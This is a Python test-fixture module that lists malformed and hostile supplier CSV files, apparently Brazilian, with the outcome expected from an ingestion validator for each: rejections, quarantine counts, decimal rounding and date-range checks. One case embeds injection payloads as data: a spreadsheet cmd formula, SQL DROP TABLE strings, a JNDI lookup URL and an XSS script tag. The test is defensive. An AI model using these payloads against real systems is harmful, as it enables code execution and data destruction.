"""The hostile-input corpus: one entry per bad (or merely odd) supplier file, with its exact outcome.

Reference date 2024-03-10, max_age_days 31. Each case is the file's bytes and either
``Rejected(words)`` — the day is refused with a message naming the file and holding ``words`` —
or ``Counts`` — linhas_csv, linhas_validas, linhas_em_branco and quarantine per motivo, exactly.
The 20 MB line is built at test time (``big`` below); nothing large is committed.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from decimal import Decimal

from tests.chain import HEADER, csv

FILE = "transacoes.csv"
OK = "F1;O1;Ana;A1;2024-03-09;1.00"


def row(
    i: int = 1, nome: str = "Ana", data: str = "2024-03-09", valor: str = "1.00", oid: str | None = None
) -> str:
    return f"F1;{oid or f'O{i}'};{nome};A1;{data};{valor}"


@dataclass(frozen=True)
class Rejected:
    words: tuple[str, ...]
    file: str = FILE
    never: tuple[str, ...] = ()  # text that must not appear in the message (data from the file)


@dataclass(frozen=True)
class Counts:
    linhas_csv: int
    validas: int
    em_branco: int = 0
    motivos: dict[str, int] = field(default_factory=dict)
    nomes: tuple[str, ...] | None = None  # validated nome values, in line order
    valores: tuple[str, ...] | None = None  # validated valor values, in line order


@dataclass(frozen=True)
class Case:
    name: str
    content: bytes | dict[str, bytes]
    expected: Rejected | Counts


def _b(text: str, encoding: str = "utf-8") -> bytes:
    return text.encode(encoding)


CASES: list[Case] = [
    # ---- files refused as a whole ---------------------------------------------------------------
    Case("empty_file", b"", Rejected(("vazio",))),
    Case("blank_first_line", b"\n\n", Rejected(("vazio",))),
    Case(
        "header_missing_column",
        _b(csv("F1;O1;Ana;2024-03-09;1.00", header="fornecedor_id;ordem_id;nome;data;valor")),
        Rejected(("ausente", "ativo_id")),
    ),
    Case(
        "header_duplicated_column",
        _b(csv(OK + ";2.00", header=HEADER + ";valor")),
        Rejected(("repetida", "valor")),
    ),
    Case(
        "header_typo_shows_only_names",
        _b(csv(OK, header="fornecedor_id;ordem;nome;ativo_id;data;valor")),
        Rejected(("ordem_id", "outras colunas: ordem", "6 campo(s)")),
    ),
    Case(
        "no_header_row",
        _b("F1;O1;Maria Sigilosa Souza;A1;2024-03-09;1.00\n" + OK + "\n"),
        Rejected(
            ("ausente", "nenhuma coluna obrigatória reconhecida", "6 campo(s)"),
            never=("Maria", "Sigilosa", "Souza"),
        ),
    ),
    Case("utf16_le_bom", _b(csv(OK), "utf-16"), Rejected(("UTF-16", "envie UTF-8"))),
    Case("utf16_be_bom", b"\xfe\xff" + _b(csv(OK), "utf-16-be"), Rejected(("UTF-16", "envie UTF-8"))),
    Case("utf16_le_no_bom", _b(csv(OK), "utf-16-le"), Rejected(("UTF-16",))),
    Case(
        "nul_in_header",
        _b(csv(OK, header="fornecedor_id;ordem_id\x00;nome;ativo_id;data;valor")),
        Rejected(("nulo", "0x00")),
    ),
    Case("cr_only_endings", _b(HEADER + "\r" + OK + "\r"), Rejected(("só com CR", "use LF ou CRLF"))),
    Case("cr_only_with_bom", b"\xef\xbb\xbf" + _b(HEADER + "\r" + OK + "\r"), Rejected(("só com CR",))),
    Case(
        "second_file_without_header",
        {"a.csv": _b(csv(OK)), "b.csv": _b(row(2, nome="Joana Reservada") + "\n")},
        Rejected(("nenhuma coluna obrigatória",), file="b.csv", never=("Joana", "Reservada")),
    ),
    # ---- headers that are odd but valid ---------------------------------------------------------
    Case("header_only", _b(HEADER + "\n"), Counts(0, 0)),
    Case("header_only_no_newline", _b(HEADER), Counts(0, 0)),
    Case(
        "header_case_order_spaces",
        _b(
            csv(
                "1,00 ; 09/03/2024 ;O1;Ana;A1;F1",
                header=" VALOR ; Data ;ordem_id;NOME;Ativo_Id ;Fornecedor_ID",
            )
        ),
        Counts(1, 1, valores=("1.00",)),
    ),
    Case(
        "header_quoted_names", _b(csv(OK, header=";".join(f'"{c}"' for c in HEADER.split(";")))), Counts(1, 1)
    ),
    Case("extra_columns_ignored", _b(csv(OK + ";web;x", header=HEADER + ";canal;obs")), Counts(1, 1)),
    Case("utf8_bom", b"\xef\xbb\xbf" + _b(csv(row(nome="José"))), Counts(1, 1, nomes=("José",))),
    Case(
        "invalid_utf8_read_as_cp1252",
        _b(csv(row(nome="Conceição")), "cp1252"),
        Counts(1, 1, nomes=("Conceição",)),
    ),
    Case(
        "comma_delimiter",
        _b(
            csv(
                'F1,O1,"Silva, Ana",A1,2024-03-09,"10,50"',
                "F1,O2,Bia,A1,2024-03-09,10,50",
                header=HEADER.replace(";", ","),
            )
        ),
        Counts(2, 1, motivos={"MALFORMED_ROW": 1}, nomes=("Silva, Ana",), valores=("10.50",)),
    ),
    Case(
        "tab_delimiter",
        _b(csv("F1\tO1\tAna\tA1\t2024-03-09\t2,5", header=HEADER.replace(";", "\t"))),
        Counts(1, 1, valores=("2.50",)),
    ),
    # ---- line endings and blank lines -------------------------------------------------------------
    Case("mixed_crlf_lf", _b(HEADER + "\r\n" + row(1) + "\n" + row(2) + "\r\n" + row(3)), Counts(3, 3)),
    Case("trailing_blank_lines", _b(csv(OK) + "\n\n\r\n"), Counts(1, 1, em_branco=3)),
    Case("whitespace_only_lines", _b(csv(row(1), "   ", "\t", " \t ", row(2))), Counts(2, 2, em_branco=3)),
    Case("nbsp_only_line_is_data", _b(csv(OK, "\u00a0")), Counts(2, 1, motivos={"MALFORMED_ROW": 1})),
    Case(
        "lone_cr_inside_a_lf_line_is_data", _b(csv(row(nome="Ana\rBia"))), Counts(1, 1, nomes=("Ana\rBia",))
    ),
    Case(
        "unicode_line_separator_is_not_a_line_end",
        _b(csv(row(nome="Ana\u2028Bia"))),
        Counts(1, 1, nomes=("Ana\u2028Bia",)),
    ),
    Case(
        "nul_in_a_field", _b(csv(row(1, nome="An\x00a"), row(2))), Counts(2, 1, motivos={"MALFORMED_ROW": 1})
    ),
    # ---- field structure and quoting --------------------------------------------------------------
    Case(
        "wrong_field_counts",
        _b(csv(row(1), "F1;O2;Ana;A1;2024-03-09", row(3) + ";x", ";;;;;;;;")),
        Counts(4, 1, motivos={"MALFORMED_ROW": 3}),
    ),
    Case("only_delimiters", _b(csv(";;;;;")), Counts(1, 0, motivos={"MISSING_FIELD": 1})),
    Case(
        "unbalanced_quote_mid_file",
        _b(csv(row(1), 'F1;O2;"Ana;A1;2024-03-09;1.00', row(3))),
        Counts(3, 2, motivos={"MALFORMED_ROW": 1}),
    ),
    Case(
        "text_after_closing_quote",
        _b(csv('F1;O1;"Ana"x;A1;2024-03-09;1.00')),
        Counts(1, 0, motivos={"MALFORMED_ROW": 1}),
    ),
    Case(
        "quoted_delimiter",
        _b(csv('F1;O1;"Silva; Ana";A1;2024-03-09;1.00')),
        Counts(1, 1, nomes=("Silva; Ana",)),
    ),
    Case(
        "escaped_quotes",
        _b(csv('F1;O1;"Ana ""Aninha"" Lima";A1;2024-03-09;1.00')),
        Counts(1, 1, nomes=('Ana "Aninha" Lima',)),
    ),
    # SPEC 2.1: each physical line is one record, so a quoted newline yields two broken lines.
    Case(
        "quoted_newline_splits_into_two_malformed_lines",
        _b(csv('F1;O1;"Ana\nSilva";A1;2024-03-09;1.00', row(2))),
        Counts(3, 1, motivos={"MALFORMED_ROW": 2}),
    ),
    Case(
        "missing_fields",
        _b(csv("F1;O1;;A1;2024-03-09;1.00", 'F1;O2;"";A1;2024-03-09;1.00', "F1;O3;Ana;A1;2024-03-09;  ")),
        Counts(3, 0, motivos={"MISSING_FIELD": 3}),
    ),
    # ---- valor --------------------------------------------------------------------------------------
    Case(
        "valor_at_decimal_18_2_limits",
        _b(csv(row(1, valor="9999999999999999.99"), row(2, valor="-9999999999999999,99"))),
        Counts(2, 2, valores=("9999999999999999.99", "-9999999999999999.99")),
    ),
    Case(
        "valor_overflow_17_digits",
        _b(
            csv(
                row(1, valor="12345678901234567.00"),
                row(2, valor="12345678901234567"),
                row(3, valor="9999999999999999.995"),
            )
        ),
        Counts(3, 0, motivos={"INVALID_VALOR": 3}),
    ),
    Case(
        "valor_leading_zeros_fit",
        _b(csv(row(1, valor="0009999999999999999.99"))),
        Counts(1, 1, valores=("9999999999999999.99",)),
    ),
    Case(
        "valor_scientific_notation",
        _b(csv(row(1, valor="1e5"), row(2, valor="1E+05"), row(3, valor="1.5e-3"))),
        Counts(3, 0, motivos={"INVALID_VALOR": 3}),
    ),
    Case(
        "valor_currency_signs",
        _b(csv(row(1, valor="R$ 10,00"), row(2, valor="$10.00"), row(3, valor="10,00 €"))),
        Counts(3, 0, motivos={"INVALID_VALOR": 3}),
    ),
    Case(
        "valor_thousands_separators",
        _b(csv(row(1, valor="1.000,00"), row(2, valor="1,000.00"), row(3, valor="1 000,00"))),
        Counts(3, 0, motivos={"INVALID_VALOR": 3}),
    ),
    # "1.000" is a decimal with three places (no thousands separators, SPEC 2.1): one, not a thousand.
    Case(
        "valor_three_decimals_is_not_thousands",
        _b(csv(row(1, valor="1.000"))),
        Counts(1, 1, valores=("1.00",)),
    ),
    Case(
        "valor_negative_zero",
        _b(csv(row(1, valor="-0.00"), row(2, valor="-0"), row(3, valor="-0,001"))),
        Counts(3, 3, valores=("0.00", "0.00", "0.00")),
    ),
    Case(
        "valor_half_even_ties",
        _b(
            csv(
                row(1, valor="-5.515"),
                row(2, valor="-5.525"),
                row(3, valor="2.675"),
                row(4, valor="0.005"),
                row(5, valor="0,015"),
            )
        ),
        Counts(5, 5, valores=("-5.52", "-5.52", "2.68", "0.00", "0.02")),
    ),
    Case(
        "valor_odd_text",
        _b(
            csv(
                row(1, valor="abc"),
                row(2, valor="--5"),
                row(3, valor=".5"),
                row(4, valor="5."),
                row(5, valor="NaN"),
                row(6, valor="Infinity"),
                row(7, valor="0x10"),
            )
        ),
        Counts(7, 0, motivos={"INVALID_VALOR": 7}),
    ),
    Case(
        "valor_nbsp_around_is_trimmed",
        _b(csv(row(1, valor="\u00a010,00\u00a0"))),
        Counts(1, 1, valores=("10.00",)),
    ),
    # ---- data ---------------------------------------------------------------------------------------
    Case(
        "impossible_dates",
        _b(
            csv(
                row(1, data="2024-02-30"),
                row(2, data="31/04/2024"),
                row(3, data="29/02/2023"),
                row(4, data="2024-13-01"),
                row(5, data="00/03/2024"),
            )
        ),
        Counts(5, 0, motivos={"INVALID_DATA": 5}),
    ),
    Case(
        "date_shapes_refused",
        _b(
            csv(
                row(1, data="2024-3-9"),
                row(2, data="2024/03/09"),
                row(3, data="2024-03-09T00:00:00"),
                row(4, data="09-03-2024"),
                row(5, data="ontem"),
            )
        ),
        Counts(5, 0, motivos={"INVALID_DATA": 5}),
    ),
    Case(
        "dates_out_of_range",
        _b(
            csv(
                row(1, data="2024-02-07"),
                row(2, data="2023-01-01"),
                row(3, data="0000-01-01"),
                row(4, data="2024-02-08"),
            )
        ),
        Counts(4, 1, motivos={"DATE_OUT_OF_RANGE": 3}),
    ),
    Case(
        "future_dates",
        _b(csv(row(1, data="2024-03-11"), row(2, data="9999-12-31"), row(3, data="10/03/2024"))),
        Counts(3, 1, motivos={"DATE_OUT_OF_RANGE": 2}),
    ),
    # ---- strings ------------------------------------------------------------------------------------
    Case(
        "injection_strings_kept_verbatim",
        _b(
            csv(
                row(1, nome="=cmd|' /C calc'!A0"),
                row(2, nome='"\'; DROP TABLE x; --"'),
                row(3, nome="${jndi:ldap://x.invalid/a}"),
                row(4, nome="@SUM(1+1)"),
                row(5, nome="<script>alert(1)</script>"),
                row(6, oid='"\'; DROP TABLE x; --"'),
                row(7, nome="'; DROP TABLE x; --"),
            )
        ),  # unquoted: 8 fields
        Counts(
            7,
            6,
            motivos={"MALFORMED_ROW": 1},
            nomes=(
                "=cmd|' /C calc'!A0",
                "'; DROP TABLE x; --",
                "${jndi:ldap://x.invalid/a}",
                "@SUM(1+1)",
                "<script>alert(1)</script>",
                "Ana",
            ),
        ),
    ),
    Case("very_long_nome", _b(csv(row(1, nome="N" * 100_000))), Counts(1, 1, nomes=("N" * 100_000,))),
    Case(
        "emoji_and_nfd_names",
        _b(csv(row(1, nome="Jose\u0301 \U0001f44d"), row(2, nome="  Conceic\u0327a\u0303o\u00a0"))),
        Counts(2, 2, nomes=("José \U0001f44d", "Conceição")),
    ),
    Case(
        "duplicated_ordem_id",
        _b(csv(row(1), row(1, nome="Bia"), row(1, nome="Caio"), row(2))),
        Counts(4, 2, motivos={"DUPLICATE_ORDEM_ID": 2}),
    ),
    Case(
        "duplicated_ordem_id_after_normalisation",
        _b(csv(row(oid="Ó1"), row(oid=" O\u0301" + "1 "), row(oid="O1"), row(oid=" O1"))),
        Counts(4, 2, motivos={"DUPLICATE_ORDEM_ID": 2}),
    ),
    Case(
        "every_reason_at_once",
        _b(
            csv(
                row(1),
                "",
                "F1;O2",
                "F1;O3;;A1;2024-03-09;1",
                row(4, valor="x"),
                row(5, data="x"),
                row(6, data="2030-01-01"),
                row(1),
            )
        ),
        Counts(
            7,
            1,
            em_branco=1,
            motivos={
                "MALFORMED_ROW": 1,
                "MISSING_FIELD": 1,
                "INVALID_VALOR": 1,
                "INVALID_DATA": 1,
                "DATE_OUT_OF_RANGE": 1,
                "DUPLICATE_ORDEM_ID": 1,
            },
        ),
    ),
]


def big_line_case() -> Case:
    """A 20 MB data line (its nome), built at test time."""
    return Case("line_of_20_mb", _b(csv(row(1, nome="x" * 20_000_000), row(2))), Counts(2, 2))


def big_single_line_file_case() -> Case:
    """A 20 MB file with no line end at all: its 'header' is refused after reading 1 MiB of it."""
    return Case(
        "file_of_one_20_mb_line",
        b"x" * 20_000_000,
        Rejected(("mais de 65536 caracteres", "sem fim de linha")),
    )


def decimal(values: tuple[str, ...]) -> list[Decimal]:
    return [Decimal(v) for v in values]
